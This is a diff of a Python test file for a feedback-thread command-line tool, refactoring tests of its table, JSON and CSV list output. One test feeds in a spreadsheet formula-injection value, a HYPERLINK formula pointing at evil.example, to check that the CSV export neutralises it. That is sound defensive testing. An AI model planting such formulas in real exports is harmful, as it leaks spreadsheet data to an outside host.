@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import subprocess
 from collections.abc import Callable
@@ -17,7 +15,6 @@ from support import OPERATOR
 from service.accounts import store as accounts
 from service.accounts.sessions import Caller
 from service.accounts.store import Account
-from service.audit.model import Actor
 from service.feedback import store
 from service.feedback.model import Thread
 from service.registry.loading import load
@@ -41,31 +38,28 @@ def feedback(command: Feedback) -> Feedback:
 def threads(redis: Redis, file: Path) -> list[Thread]:
     """One of Alice's, and one of Zoe's, which is the later one."""
     registry = load(file)
-    found = []
+    threads = []
     for account_id, module in (("alice", "sms"), ("zoe", "crm")):
         accounts.add(redis, Account(account_id, "active", name=account_id.title()), by=OPERATOR)
-        found.append(store.open_thread(redis, Caller(account_id), module, f"{module}, please\nsoon", registry)[0])
-    return found
+        threads.append(store.open_thread(redis, Caller(account_id), module, f"{module}, please\nsoon", registry)[0])
+    return threads
 
 
-def test_list(feedback: Feedback, threads: list[Thread], redis: Redis, file: Path) -> None:
+def test_list(feedback: Feedback, threads: list[Thread]) -> None:
     alices, zoes = threads
-    lines = feedback("list").stdout.splitlines()
-    assert " ".join(lines[0].split()) == "id status unread module account name updated last message"
-    assert [line.split()[0] for line in lines[1:]] == [zoes.id, alices.id]
-    assert lines[1].split()[1:6] == ["open", "yes", "crm", "zoe", "Zoe"]
-    assert lines[1].endswith("crm, please soon")
-    found = json.loads(feedback("list", "--format", "json", "--module", "texts").stdout)
-    assert [thread["last_message"]["text"] for thread in found] == ["sms, please\nsoon"]
+    header, newest, oldest = feedback("list").stdout.splitlines()
+    assert header.split() == ["id", "status", "unread", "module", "account", "name", "updated", "last", "message"]
+    assert newest.split()[:6] == [zoes.id, "open", "yes", "crm", "zoe", "Zoe"]
+    assert newest.endswith("crm, please soon") and oldest.startswith(alices.id)
+    listed = json.loads(feedback("list", "--format", "json", "--module", "texts").stdout)
+    assert [thread["last_message"]["text"] for thread in listed] == ["sms, please\nsoon"]
     nothing = feedback("list", "--status", "declined")
     assert (nothing.returncode, nothing.stdout, nothing.stderr) == (0, "", "no requests\n")
     unknown = feedback("list", "--module", "smss")
     assert (unknown.returncode, unknown.stderr) == (1, "smss is no module; did you mean sms?\n")
-    text = '=HYPERLINK("https://evil.example/"&A1)'
-    store.add_message(redis, alices.id, text, load(file), by=Actor.account("alice"))
-    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(feedback("list", "--format", "csv").stdout))}
-    assert rows.keys() == {alices.id, zoes.id}
-    assert rows[alices.id]["last message"].startswith("'=HYPERLINK"), "which no spreadsheet runs"
+    feedback("answer", alices.id, '=HYPERLINK("https://evil.example/"&A1)')
+    assert f"{alices.id},answered,,sms,alice,Alice," in (csv := feedback("list", "--format", "csv").stdout)
+    assert "'=HYPERLINK" in csv, "which no spreadsheet runs"
 
 
 def test_answer_show_and_close(feedback: Feedback, threads: list[Thread]) -> None:
